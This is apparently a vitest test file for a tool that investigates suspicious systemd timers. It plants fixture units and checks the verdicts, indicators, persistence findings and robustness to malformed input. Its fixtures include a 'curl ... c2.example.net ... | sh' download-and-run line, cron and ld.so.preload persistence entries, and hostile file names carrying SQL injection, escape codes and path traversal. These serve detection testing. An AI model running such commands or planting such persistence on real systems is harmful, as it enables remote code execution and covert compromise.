/** Whole investigations of planted units, over real files, the store and the embedded engine. */
import { spawn } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import type { UnitDirectory } from '../../src/host/directories.ts';
import { parseGuide } from '../../src/guide/parse.ts';
import { connections } from '../../src/investigate/checks/connections.ts';
import { checks } from '../../src/investigate/checks/index.ts';
import type { Evidence } from '../../src/investigate/evidence.ts';
import { investigate, type History, type InvestigateOptions, type Investigation } from '../../src/investigate/index.ts';
import type { FileEvent } from '../../src/model/event.ts';
import { createEmbedded } from '../../src/sql/index.ts';
import { alertOf } from '../helpers/alerts.ts';
import { fileEvent, temporaryDirectory } from '../helpers/events.ts';
import { processOf } from '../helpers/investigation.ts';
import { plant } from '../helpers/response.ts';
import { until } from '../helpers/until.ts';

const NOBODY: History = { events: () => [], alerts: () => [] };
const GUIDE = parseGuide(readFileSync(new URL('../../playbooks/systemd-timer-created/guide.md', import.meta.url), 'utf8'));
const SEED = parseGuide(readFileSync(new URL('../fixtures/seed-guide.zh-CN.txt', import.meta.url), 'utf8'));

async function look(root: string, event: FileEvent, more: Partial<InvestigateOptions> = {}): Promise<Investigation> {
  const engine = await createEmbedded();
  const directories: UnitDirectory[] = ['etc', 'usr'].map((path) => ({ path: join(root, path), scope: 'system', kind: 'units' }));
  try {
    return await investigate({
      event,
      guide: GUIDE,
      engine,
      parses: (sql) => engine.parses(sql),
      host: { uid: process.getuid?.() ?? 0, users: [{ name: 'root', uid: 0, gid: 0, gecos: '', home: join(root, 'root'), shell: '/bin/sh' }], directories, root: join(root, 'host') },
      history: NOBODY,
      timeoutMs: 30_000,
      maxRows: 1_000,
      ...more,
    });
  } finally {
    await engine.close();
  }
}

const step = (found: Investigation, id: string): Investigation['steps'][number] => {
  const named = found.steps.find((each) => each.id === id);
  if (named === undefined) throw new Error(`no step ${id}`);
  return named;
};
const value = (found: Investigation, id: string, what: string): string | undefined => step(found, id).rows.find((row) => row['what'] === what)?.['value'];

function evil(): { root: string; path: string } {
  const root = temporaryDirectory();
  plant(root, {
    'etc/evil.timer': '[Timer]\nOnCalendar=daily\nPersistent=true\nUnit=job.service\n',
    'etc/evil.timer.d/often.conf': '[Timer]\nOnCalendar=*:0/1\n',
    'etc/job.service': `[Service]\nExecStart=${root}/run.sh --now\n`,
    'run.sh': `#!/bin/sh\ncurl -s http://c2.example.net:8080/x | sh\n${root}/.beacon 203.0.113.9\n`,
    '.beacon': 'a\0b',
    'host/etc/cron.d/again': `* * * * * root ${root}/run.sh\n`,
    'host/etc/ld.so.preload': `${root}/evil.so\n`,
    'host/var/log/dpkg.log': '',
  });
  return { root, path: join(root, 'etc/evil.timer') };
}

describe('of a timer that nobody wants', () => {
  test('everything is looked at, and said', async () => {
    const { root, path } = evil();
    const found = await look(root, fileEvent({ path }));
    expect(found.steps.filter(({ error }) => error !== null)).toEqual([]);
    expect([value(found, 'timer', 'starts'), value(found, 'timer', 'catches up after a boot'), value(found, 'service', 'ExecStart=')]).toEqual(['job.service', 'yes (Persistent=)', `${root}/run.sh --now`]);
    expect(step(found, 'timer').rows.filter(({ what }) => what === 'OnCalendar').map((row) => row['value'])).toEqual(['daily — every day at 00:00', '*:0/1 — every minute']);
    expect(value(found, 'timer', 'drop-ins')).toBe(`${root}/etc/evil.timer.d/often.conf`);
    expect(step(found, 'chain').rows.map((row) => row['path'])).toEqual(expect.arrayContaining([`${root}/run.sh`, `${root}/.beacon`]));
    expect(step(found, 'strings').rows.map((row) => row['value'])).toEqual(expect.arrayContaining(['hxxp://c2.example[.]net:8080/x', 'c2.example[.]net', '203.0.113[.]9']));
    expect(found.indicators).toMatchObject({ urls: ['http://c2.example.net:8080/x'], domains: ['c2.example.net'], addresses: ['203.0.113.9'], paths: expect.arrayContaining([path, `${root}/run.sh`]), hashes: [expect.stringMatching(/^[0-9a-f]{64}$/), expect.stringMatching(/^[0-9a-f]{64}$/)] });
    expect(step(found, 'persistence').rows.map((row) => `${row['kind']} ${row['path']} ${row['why']}`)).toEqual(expect.arrayContaining([expect.stringMatching(/^cron \/etc\/cron\.d\/again .*names what the unit runs/), expect.stringMatching(/^preload \/etc\/ld\.so\.preload .*loaded into every program/)]));
    expect(found.verdict.level).toBe('highly-suspicious');
    expect(new Set(found.verdict.signs.map(({ id }) => id))).toEqual(new Set([...found.verdict.signs.map(({ id }) => id), 'downloads-and-runs', 'persists-elsewhere', 'preloads', 'drop-in', 'names-the-network']));
    expect(found.timeline.filter(({ subject }) => subject === true)).toHaveLength(1);
    expect(found.timeline.map(({ time }) => time)).toEqual(found.timeline.map(({ time }) => time).toSorted());
  });

  test('each check is one step, at its task where the guide names it, and a task that is done needs nobody', async () => {
    const { root, path } = evil();
    const found = await look(root, fileEvent({ path }));
    expect(found.steps.filter(({ kind }) => kind === 'check').map(({ id }) => id).toSorted()).toEqual(checks.map(({ id }) => id).toSorted());
    expect(found.steps.slice(0, 2)).toMatchObject([{ id: 'timer', kind: 'check', section: 'Triage and analysis' }, { id: '1', kind: 'task', checks: ['timer'], needs_person: null }]);
    const foreign = await look(root, fileEvent({ path }), { guide: SEED, lang: 'zh-CN' });
    expect(foreign.steps.filter(({ kind, sql }) => kind === 'query' && sql !== null).map(({ error, skipped, repairs }) => ({ error, skipped, repaired: repairs.length > 0 }))).toEqual([false, true, true, true, true, false, false].map((repaired) => ({ error: null, skipped: null, repaired })));
    expect(foreign.steps.slice(-checks.length).map(({ id, section }) => [id, section])).toEqual(checks.map(({ id }) => [id, 'Tickward 的其他检查']));
    for (const { title } of foreign.steps.slice(-checks.length)) expect(title).toMatch(/\p{Script=Han}/u);
  });

  test('a step of the guide or a check can be had alone', async () => {
    const { root, path } = evil();
    const alone = await look(root, fileEvent({ path }), { only: 'chain' });
    expect(alone.steps.map(({ id }) => id)).toEqual(['chain']);
    expect(alone.verdict.open).toContain('only the step chain was looked at: what the others would say is not known');
    expect((await look(root, fileEvent({ path }), { only: '2' })).steps.map(({ id }) => id)).toEqual(['2']);
    await expect(look(root, fileEvent({ path }), { only: 'nothing' })).rejects.toThrow(/no step nothing.*check/);
  });

  test('what the person answers counts, and after "ask no more" nothing is asked', async () => {
    const { root, path } = evil();
    const asked: string[] = [];
    const found = await look(root, fileEvent({ path }), { guide: parseGuide('- a\n- b\n- c\n'), ask: async ({ id }) => (asked.push(id) > 1 ? null : 'suspicious') });
    expect(asked).toEqual(['1', '2']);
    expect(found.steps.filter(({ kind }) => kind === 'task').map(({ answer }) => answer)).toEqual(['suspicious', null, null]);
    expect(found.verdict.reasons).toEqual(expect.arrayContaining(['a person found this suspicious: a', '2 steps of the guide need a person']));
  });
});

test('a file that is gone is told by what the sensor read', async () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, 'etc'));
  const event = fileEvent({ path: join(root, 'etc/gone.timer') });
  const found = await look(root, { ...event, tickward: { ...event.tickward, directives: ['Timer.OnCalendar=hourly', 'Timer.Unit=x.service'] } });
  expect(step(found, 'timer').warnings.join()).toContain('the file is not there any more');
  expect([value(found, 'timer', 'OnCalendar'), value(found, 'timer', 'starts')]).toEqual(['hourly — every hour', 'x.service']);
  expect(step(found, 'service')).toMatchObject({ skipped: 'x.service is in no unit directory', signs: [{ id: 'service-missing' }] });
});

test('a service is looked at with the timers that start it', async () => {
  const { root } = evil();
  const event = fileEvent({ path: join(root, 'etc/job.service') });
  const found = await look(root, { ...event, tickward: { ...event.tickward, unit_type: 'service' } });
  expect([value(found, 'timer', 'unit'), value(found, 'service', 'unit')]).toEqual(['evil.timer', 'job.service']);
});

test('the history gives other alerts, other changes, and how usual it is', async () => {
  const { root, path } = evil();
  const event = fileEvent({ path, time: '2026-11-24T10:00:00.000Z' });
  const other = fileEvent({ path: join(root, 'etc/other.service'), time: '2026-11-24T10:00:05.000Z' });
  const history: History = { events: (since, before) => [event, other].filter(({ '@timestamp': time }) => Date.parse(time) >= since && Date.parse(time) <= before), alerts: () => [{ id: 'a2', '@timestamp': other['@timestamp'], status: 'open', rule: { id: 'r', name: 'Rule', version: 1, severity: 'low', risk_score: 21, threat: { tactic: 'TA0003', technique: [] } }, event: other }] as ReturnType<History['alerts']> };
  const found = await look(root, event, { history });
  expect(step(found, 'alerts').rows).toMatchObject([{ rule: 'Rule', same: 'user, program' }]);
  expect(step(found, 'changes').rows).toMatchObject([{ path: join(root, 'etc/other.service'), what: 'creation', 'told by': 'fanotify' }]);
  expect(step(found, 'changes').signs).toMatchObject([{ id: 'same-process-changed-more' }]);
  expect(step(found, 'similar').rows[0]).toMatchObject({ same: 'user and command line', events: '1', alerts: '1' });
});

test.each<[FileEvent['user'], FileEvent['user'], boolean]>([
  [{ name: 'deploy' }, { id: '1000', name: 'deploy' }, true],
  [{ name: 'deploy' }, { name: 'root' }, false],
  [{ id: '1000', name: 'deploy' }, { id: '1001', name: 'deploy' }, false],
  [undefined, undefined, false],
])('an alert by %j beside an event by %j: of the same user is %s', async (one, other, isSame) => {
  const { root, path } = evil();
  const by = (user: FileEvent['user']): FileEvent => {
    const { user: _user, ...event } = fileEvent({ path, executable: `/usr/bin/${user?.id ?? 'x'}` });
    return { ...event, ...(user === undefined ? {} : { user }) };
  };
  const found = await look(root, by(one), { history: { events: () => [], alerts: () => [alertOf({ event: by(other) })] } });
  expect(step(found, 'alerts').rows[0]?.['same']?.includes('user')).toBe(isSame);
});

test('the maker and what it has started are shown while they live, with their sockets', async () => {
  const { root, path } = evil();
  const script = "const s = require('node:net').createServer().listen(0, '127.0.0.1', () => console.log(s.address().port))";
  const child = spawn(process.execPath, ['-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
  onTestFinished(() => void child.kill('SIGKILL'));
  let port = '';
  child.stdout.on('data', (data: Buffer) => (port += data.toString()));
  await until(() => port.endsWith('\n'), () => 'a port');
  const event = fileEvent({ path });
  const found = await look(root, { ...event, process: { pid: process.pid, name: readFileSync('/proc/self/comm', 'utf8').trim(), executable: process.execPath }, tickward: { ...event.tickward, ancestry: [] } });
  expect(found.processes.find(({ pid }) => pid === process.pid)).toMatchObject({ role: 'maker', alive: true });
  expect(found.processes.find(({ pid }) => pid === child.pid)).toMatchObject({ role: 'descendant', connections: [`tcp 127.0.0.1:${port.trim()} LISTEN`] });
  expect(step(found, 'connections')).toMatchObject({ sql: expect.stringContaining('process_open_sockets'), engine: 'embedded' });
});

test('a number that another process has by now is not taken for the maker', async () => {
  const { root, path } = evil();
  const event = fileEvent({ path });
  const found = await look(root, { ...event, process: { pid: process.pid, name: 'node', executable: '/opt/evil', start: '2001-01-01T00:00:00.000Z' } });
  expect(found.processes.find(({ pid }) => pid === process.pid)).toMatchObject({ executable: '/opt/evil', alive: false });
});

test('a query of a table that is not there fails, a broken block too, and the rest runs', async () => {
  const { root, path } = evil();
  const guide = parseGuide('- !{osquery{"label":"none","query":"SELECT * FROM nosuch"}}\n- !{osquery{"label":"broken","query":}}\n- !{osquery{"label":"braces","query":"SELECT \'}}\' AS x, \'{\' AS y"}}\n');
  const found = await look(root, fileEvent({ path }), { guide });
  expect(found.steps.slice(0, 3)).toMatchObject([{ error: 'no such table: nosuch', rows: [] }, { kind: 'broken', error: expect.stringMatching(/no JSON/) }, { error: null, rows: [{ x: '}}', y: '{' }] }]);
  expect(found.verdict.open).toContain('2 queries failed');
});

test('one check that fails leaves the others alone, and is said', async () => {
  const { root, path } = evil();
  const found = await look(root, fileEvent({ path }), { history: { events: () => { throw new Error('the store is gone'); }, alerts: () => [] } });
  expect(found.steps.filter(({ error }) => error !== null).map(({ id, error }) => [id, error])).toEqual([['changes', 'the store is gone'], ['similar', 'the store is gone']]);
  expect(found.verdict.open).toEqual(expect.arrayContaining(['the check changes failed: the store is gone']));
});

test('units of hostile names and texts are shown as data', async () => {
  const root = temporaryDirectory();
  const name = "x' UNION SELECT 1 --\u001b[2J.timer";
  mkdirSync(join(root, 'etc'));
  writeFileSync(join(root, 'etc', name), `[Timer]\nOnCalendar=${'x'.repeat(5_000)}\nUnit=../../../etc/passwd\n[Service]\nExecStart=\u202e\u0007\n`);
  const found = await look(root, fileEvent({ path: join(root, 'etc', name) }));
  expect(found.steps.filter(({ error }) => error !== null)).toEqual([]);
  expect(step(found, 'service').skipped).toBe('../../../etc/passwd is in no unit directory');
  expect(step(found, 'timer').warnings.join()).toMatch(/5000 characters/);
});

test.each([['a link to itself', 'loop.conf'], ['a link to a name that is too long', 'x'.repeat(300)]])('%s among the drop-ins blinds no check', async (_, target) => {
  const { root, path } = evil();
  mkdirSync(join(root, 'etc/job.service.d'));
  symlinkSync(target, join(root, 'etc/job.service.d/loop.conf'));
  const found = await look(root, fileEvent({ path }));
  expect(found.steps.filter(({ error }) => error !== null)).toEqual([]);
  expect(step(found, 'chain').rows.map((row) => row['path'])).toContain(join(root, 'run.sh'));
  expect(step(found, 'service').warnings).toEqual(target === 'loop.conf' ? [`${root}/etc/job.service.d/loop.conf cannot be read: what it sets is not known`] : []);
});

test('of a timer with ten thousand calendars not as many programs are started', async () => {
  const { root, path } = evil();
  writeFileSync(path, `[Timer]\n${Array.from({ length: 10_000 }, (_, index) => `OnCalendar=*-*-* 01:${Math.floor(index / 60) % 60}:${index % 60}`).join('\n')}\nUnit=job.service\n`);
  const started = performance.now();
  const found = await look(root, fileEvent({ path }), { only: 'timer' });
  expect(performance.now() - started).toBeLessThan(15_000);
  expect(step(found, 'timer').warnings).toEqual(['only the first 60 of 10001 times are shown', 'the next runs are those of the first 20 of 3601 calendars']);
  expect(step(found, 'timer').rows.length).toBeLessThan(100);
});

test('processes whose sockets are not asked for are said', async () => {
  const engine = await createEmbedded();
  onTestFinished(() => engine.close());
  const processes = Array.from({ length: 101 }, (_, index) => processOf(index + 2, 1, { alive: true }));
  const { warnings } = await connections.look({ processes, ask: (sql: string) => engine.query(sql) } as unknown as Evidence);
  expect(warnings).toContain('only the sockets of the first 100 of 101 processes are asked for');
});
